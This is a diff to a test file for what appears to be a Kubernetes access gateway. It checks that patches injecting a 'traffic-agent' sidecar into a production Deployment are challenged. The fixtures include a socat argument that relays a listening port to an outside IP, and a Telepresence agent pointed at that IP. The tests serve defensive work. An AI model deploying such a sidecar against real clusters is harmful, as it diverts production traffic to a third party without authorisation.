@@ -100,14 +100,30 @@ describe("production workloads, from the victim's own laptop, network, client an
   // first seed each): 103 of 412 routine production workload writes carry a container with its
   // image (client-side apply, `set image`); none is a JSON patch appending a container, but the
   // same sidecar by strategic merge or server-side apply is a release's body, so asking more of the
-  // JSON patch alone would close this shape and not the class.
-  it.fails('a traffic-agent sidecar added to a production Deployment is asked more than a production write', async () => {
+  // JSON patch alone would close this shape and not the class. Since session 34 the day's own
+  // sidecar is asked (next test): Telepresence's image is from no registry the example lists. The
+  // same sidecar from the studio's own registry (its netshoot mirror) is the class, still open.
+  it.fails('a sidecar from a listed image added to a production Deployment is asked more than a production write', async () => {
+    const login = await twoDays('d13f-release-b@ember.example', RELEASE);
+    const res = await send(login, THU + 6 * H, 'PATCH', '/apis/apps/v1/namespaces/matchmaking-prod/deployments/matchmaking', {
+      body: JSON.stringify([{ op: 'add', path: '/spec/template/spec/containers/-', value: { name: 'traffic-agent', image: 'registry.ember.example/tools/netshoot:0.13', args: ['socat', 'TCP-LISTEN:9900,fork', 'TCP:45.86.162.44:8081'], ports: [{ name: 'tm-http', containerPort: 9900 }] } }]),
+      contentType: JSONPATCH,
+    });
+    expect(reasonOf(res), rules(res)).not.toBe('allowed');
+  });
+
+  // Closed for the day's own shape (session 34): Telepresence's traffic-agent image
+  // (ghcr.io/telepresenceio) is from no registry the example lists, image_registry_not_allowed.
+  // Telepresence's own traffic-manager injects its agent inside the cluster, which stepgate never
+  // sees, so a site running it need not list the agent's registry for its engineers' writes.
+  it("the day's Telepresence traffic-agent added to a production Deployment is asked for a recent sign-in", async () => {
     const login = await twoDays('d13f-release-b@ember.example', RELEASE);
     const res = await send(login, THU + 6 * H, 'PATCH', '/apis/apps/v1/namespaces/matchmaking-prod/deployments/matchmaking', {
       body: JSON.stringify([{ op: 'add', path: '/spec/template/spec/containers/-', value: { name: 'traffic-agent', image: 'ghcr.io/telepresenceio/tel2:2.20.2', args: ['agent'], ports: [{ name: 'tm-http', containerPort: 9900 }], env: [{ name: '_TEL_AGENT_MANAGER_HOST', value: '45.86.162.44' }] } }]),
       contentType: JSONPATCH,
     });
     expect(reasonOf(res), rules(res)).not.toBe('allowed');
+    expect(rules(res)).toContain('guardrail:image_registry_not_allowed');
   });
 
   // Fixed (engine): ten cordons a second apart. node-changes asks two factors within 8 hours, which
